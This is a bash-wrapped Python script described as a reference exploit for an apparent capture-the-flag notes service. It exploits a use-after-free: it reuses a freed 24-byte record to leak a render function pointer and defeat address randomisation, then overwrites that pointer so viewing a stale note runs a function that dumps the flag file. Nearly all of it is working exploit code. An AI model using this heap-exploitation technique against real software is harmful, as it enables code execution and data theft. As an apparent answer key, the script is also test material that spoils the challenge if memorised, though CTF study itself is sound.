#!/bin/bash
# Reference exploit: a discarded note stays in its slot (use after free). Its 24-byte record goes to
# the allocator's cache and comes back as the body of a new 24-byte note, still holding the render
# pointer: view leaks it (the load address), edit replaces it, viewing the old slot calls ours.
set -euo pipefail
objdump -d --no-show-raw-insn challenge/notes > /tmp/notes.asm
python3 - <<'PY'
import re, socket

code = []
for line in open("/tmp/notes.asm"):
    m = re.match(r"\s+([0-9a-f]+):\t(.*)", line)
    if m:
        code.append((int(m.group(1), 16), m.group(2).strip()))
starts = {a for k, (a, i) in enumerate(code) if i == "push   %rbp" and code[k + 1][1] == "mov    %rsp,%rbp"}

# stage: locate the flag-dumping function (it opens the path) and the render function that new
# notes point at (the one function address stored by the code)
data = open("challenge/notes", "rb").read()
path_at = data.index(b"/service/flag.txt")
user = next(k for k, (_, i) in enumerate(code) if f"# {path_at:x} " in i)
win = max(a for a in starts if a <= code[user][0])
stored = {int(m.group(1), 16) for _, i in code if (m := re.search(r"lea    -?0x[0-9a-f]+\(%rip\),%r[a-z0-9]+ +# ([0-9a-f]+)", i))}
render = next(a for a in stored & starts if a != win)

s = socket.create_connection(("127.0.0.1", 9002), timeout=10)
pending = b""
def until(marker):
    global pending
    while marker not in pending:
        chunk = s.recv(4096)
        if not chunk:
            raise SystemExit(pending.decode(errors="replace"))
        pending += chunk
    got, pending = pending.split(marker, 1)
    return got
def command(*steps):
    for prompt, answer in steps:
        until(prompt)
        s.sendall(answer)

# stage: two notes, both discarded: their records are cached by the allocator, last freed first
for body in (b"A" * 64, b"B" * 64):
    command((b"> ", b"1\n"), (b"size: ", b"64\n"), (b"content: ", body))
command((b"> ", b"4\n"), (b"slot: ", b"0\n"))
command((b"> ", b"4\n"), (b"slot: ", b"1\n"))
# stage: a 24-byte note (slot 2): its record reuses note 1's and its body is note 0's old record,
# render pointer included; viewing it prints all 24 bytes
command((b"> ", b"1\n"), (b"size: ", b"24\n"), (b"content: ", b"C" * 8))
command((b"> ", b"2\n"), (b"slot: ", b"2\n"))
body = until(b"\n> ")[-24:]
base = int.from_bytes(body[16:24], "little") - render
# stage: point the stale record's render at the flag dumper, then view the stale slot 0
s.sendall(b"3\n")
command((b"slot: ", b"2\n"), (b"content: ", b"\0" * 16 + (base + win).to_bytes(8, "little")))
command((b"> ", b"2\n"), (b"slot: ", b"0\n"))
out = b""
while chunk := s.recv(4096):
    out += chunk
print(out.decode(errors="replace"))
PY
